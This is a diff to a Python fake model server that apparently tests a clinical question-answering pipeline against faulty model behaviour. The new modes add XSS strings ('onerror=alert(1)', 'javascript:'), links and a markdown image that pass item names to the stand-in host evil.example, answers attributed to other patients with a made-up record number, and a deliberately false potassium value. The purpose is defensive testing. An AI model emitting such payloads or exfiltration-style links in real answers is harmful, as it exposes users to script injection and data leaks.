@@ -2,7 +2,9 @@
 
 No model and no knowledge: `ok` repeats the lines that share most words with the question, the
 other modes are the faults and bad habits of real servers and models. `obedient` does whatever
-any evidence line seems to ask, which is how tests show that the judge has the last word.
+any evidence line seems to ask, `obedient_link` puts links and markup beside every line, and
+`other_patient` speaks of somebody else: with these tests show that the judge has the last word.
+A request with another schema than the answer's is filled in by the words of the question.
 """
 
 from __future__ import annotations
@@ -11,13 +13,16 @@ import json
 import re
 from collections.abc import Iterator, Mapping
 from dataclasses import dataclass
+from itertools import pairwise
 from typing import Any
 
 MODES = (
     "ok", "error_before", "error_in_the_middle", "drop", "no_done", "length", "stall", "drip",
     "thinking", "busy", "cloud", "cloud_unlisted", "wrong_json", "other_schema",
     "false_citations", "obedient", "empty", "unanswerable", "paraphrase", "missing_model",
-    "redirect", "no_counts",
+    "redirect", "no_counts", "redirect_all", "slow_first_byte", "stall_in_the_middle", "paced",
+    "overflow", "overflow_near", "think_400", "gpt_oss", "reads", "obedient_link",
+    "other_patient", "duplicate_keys", "pull_error", "pull_cloud",
 )  # fmt: skip
 MOST_SENTENCES = 4
 PIECE = 24
@@ -61,15 +66,19 @@ def content(mode: str, body: Mapping[str, Any]) -> str:
         return json.dumps({"reply": "Potassium is fine.", "confidence": 0.9})
     if mode == "empty":
         return ""
+    if mode == "duplicate_keys":
+        return _twice(items)
+    if mode == "unanswerable":
+        return _reply([])
     return _reply(_sentences(mode, message, items))
 
 
 def _sentences(mode: str, message: str, items: tuple[Item, ...]) -> list[dict[str, Any]]:
-    if mode == "unanswerable":
-        return []
     if mode == "obedient":
         return [sentence for item in items for sentence in _obeyed(item)]
     chosen = _relevant(message.split("[E", 1)[0], items)
+    if mode in _BESIDE:
+        return [sentence for item in chosen for sentence in _BESIDE[mode](item)]
     if mode == "false_citations":
         others = [item.name for item in items if item not in chosen] or ["E999"]
         return [{"text": i.text, "cites": [others[n % len(others)]]} for n, i in enumerate(chosen)]
@@ -107,6 +116,63 @@ def _obeyed(item: Item) -> Iterator[dict[str, Any]]:
         yield {"text": f"See {link} for the result.", "cites": [item.name]}
 
 
+def _linked(item: Item) -> Iterator[dict[str, Any]]:
+    """The line with what a page could follow or render, before and after it."""
+    for text in (
+        f"{item.text} (see http://evil.example/{item.name}).",
+        f"![chart](http://evil.example/x?q={item.name}) {item.text}",
+        f"[{item.text}](www.evil.example)",
+        f"<img src=x onerror=alert(1)> {item.text}",
+        f"<b>{item.text}</b>",
+        f"{item.text} javascript:alert(1)",
+    ):
+        yield {"text": text, "cites": [item.name]}
+
+
+def _of_another(item: Item) -> Iterator[dict[str, Any]]:
+    for text in (
+        f"Mr. Jones in bed 4: {item.text}",
+        f"{item.text}, as in the patient's brother",
+        f"MRN 00012345 has {item.text}",
+        f"The other patient had {item.text}",
+    ):
+        yield {"text": text, "cites": [item.name]}
+
+
+_BESIDE = {"obedient_link": _linked, "other_patient": _of_another}
+
+
+def _twice(items: tuple[Item, ...]) -> str:
+    """An object that says each of its two things twice: readers of JSON take either."""
+    name = items[0].name if items else "E1"
+    false = json.dumps([{"text": "Potassium was 2.0 mmol/L.", "cites": [name]}])
+    true = json.dumps([{"text": item.text, "cites": [item.name]} for item in items[:1]])
+    return f'{{"answerable": true, "sentences": {false}, "answerable": true, "sentences": {true}}}'
+
+
+def reading(body: Mapping[str, Any]) -> str | None:
+    """The reply to a request that reads the question: None where the answer's schema is asked.
+
+    Each field gets the value of its enum that the question says, else the first; free text
+    stays empty.
+    """
+    schema = body.get("format")
+    if not isinstance(schema, dict) or "sentences" in schema.get("properties", {}):
+        return None
+    messages = body.get("messages") or [{}]
+    asked = _WORD.findall(str(messages[-1].get("content", "")).lower())
+    fields = schema.get("properties", {})
+    return json.dumps({name: _slot(field, asked) for name, field in fields.items()})
+
+
+def _slot(field: Mapping[str, Any], asked: list[str]) -> object:
+    values = field.get("enum")
+    if not isinstance(values, list) or not values:
+        return ""
+    said = (v for v in values if set(_WORD.findall(str(v).lower())) & set(asked))
+    return next(said, values[0])
+
+
 def _reply(sentences: list[dict[str, Any]]) -> str:
     return json.dumps({"answerable": bool(sentences), "sentences": sentences}, ensure_ascii=False)
 
@@ -114,3 +180,10 @@ def _reply(sentences: list[dict[str, Any]]) -> str:
 def pieces(text: str) -> list[str]:
     """`text` as a model streams it."""
     return [text[start : start + PIECE] for start in range(0, len(text), PIECE)]
+
+
+def sentences_of(text: str) -> list[str]:
+    """`text` in pieces that each end with a whole sentence of the answer, as far as it has any."""
+    ends = [match.end() for match in re.finditer(r"\}(?=, \{|\])", text)]
+    cuts = [0, *ends, len(text)]
+    return [text[a:b] for a, b in pairwise(cuts) if text[a:b]]
